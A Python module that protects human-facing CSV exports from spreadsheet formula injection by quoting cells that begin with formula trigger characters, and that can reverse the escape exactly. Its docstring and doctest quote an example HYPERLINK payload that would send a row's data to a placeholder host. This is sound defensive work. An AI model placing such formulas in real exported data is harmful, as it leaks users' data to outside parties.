"""CSV files a person opens in a spreadsheet, made safe from formula injection (OWASP "CSV Injection").

A cell that begins with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return is run as a formula by
Excel, LibreOffice and Google Sheets: a spam e-mail holding ``=HYPERLINK("http://…"&A2,"click")``
would become a live link that leaks the row. Every CSV TransferLab writes for people (a run's
predictions.csv, ``engine.predict`` output, the dashboard's downloads) prefixes such cells, and such
column names, with a single quote, which spreadsheets show as text and do not display. Plain numbers
(``-3.5``) are left alone. ``raw=True`` (``engine.predict --raw-csv``) writes the values unchanged,
for programs.

The escape can be undone exactly: a value that already begins with a quote followed by something
that would be escaped gets one more quote, so :func:`restore` returns every original value.

>>> neutralise('=HYPERLINK("http://x")'), neutralise("-3.5"), neutralise("hello")
('\\'=HYPERLINK("http://x")', '-3.5', 'hello')
>>> restore(neutralise("'=1")) == "'=1" and restore(neutralise("@x")) == "@x"
True
"""

from __future__ import annotations

import os
from pathlib import Path
from typing import Any

TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


def _is_number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


def needs_escape(value: str) -> bool:
    """Whether a spreadsheet could read this cell as a formula (or it is an escaped one already)."""
    if value.startswith(TRIGGERS):
        return not _is_number(value)
    return value.startswith("'") and needs_escape(value[1:])


def neutralise(value: Any) -> Any:
    """The cell as written for a person: strings that could run as a formula get a leading quote."""
    return "'" + value if isinstance(value, str) and needs_escape(value) else value


def restore(value: Any) -> Any:
    """The value :func:`neutralise` was given, from what it wrote (for reading our own files back)."""
    if isinstance(value, str) and value.startswith("'") and needs_escape(value[1:]):
        return value[1:]
    return value


def _holds_text(column: Any) -> bool:
    from pandas.api.types import is_object_dtype, is_string_dtype

    return is_object_dtype(column) or is_string_dtype(column)


def neutralise_table(table: Any) -> Any:
    """A copy of a pandas DataFrame with its text cells and column names neutralised."""
    safe = table.copy()
    safe.columns = [neutralise(str(c)) for c in safe.columns]
    for column in safe.columns:
        if _holds_text(safe[column]):
            safe[column] = safe[column].map(neutralise)
    return safe


def restore_table(table: Any) -> Any:
    """Undo :func:`neutralise_table` on a table read back from one of our CSV files."""
    table = table.copy()
    table.columns = [restore(c) for c in table.columns]
    for column in table.columns:
        if _holds_text(table[column]):
            table[column] = table[column].map(restore)
    return table


def table_csv_bytes(table: Any, raw: bool = False) -> bytes:
    """The table as UTF-8 CSV bytes (a download), neutralised unless ``raw``."""
    return (table if raw else neutralise_table(table)).to_csv(index=False).encode("utf-8")


def write_table_csv(table: Any, path: str | Path, raw: bool = False) -> Path:
    """Write the table as CSV, neutralised unless ``raw``, through a temporary file renamed into place."""
    path = Path(path)
    path.parent.mkdir(parents=True, exist_ok=True)
    tmp = path.with_name(f".{path.name}.tmp")
    try:
        tmp.write_bytes(table_csv_bytes(table, raw))
        os.replace(tmp, path)
    finally:
        tmp.unlink(missing_ok=True)
    return path
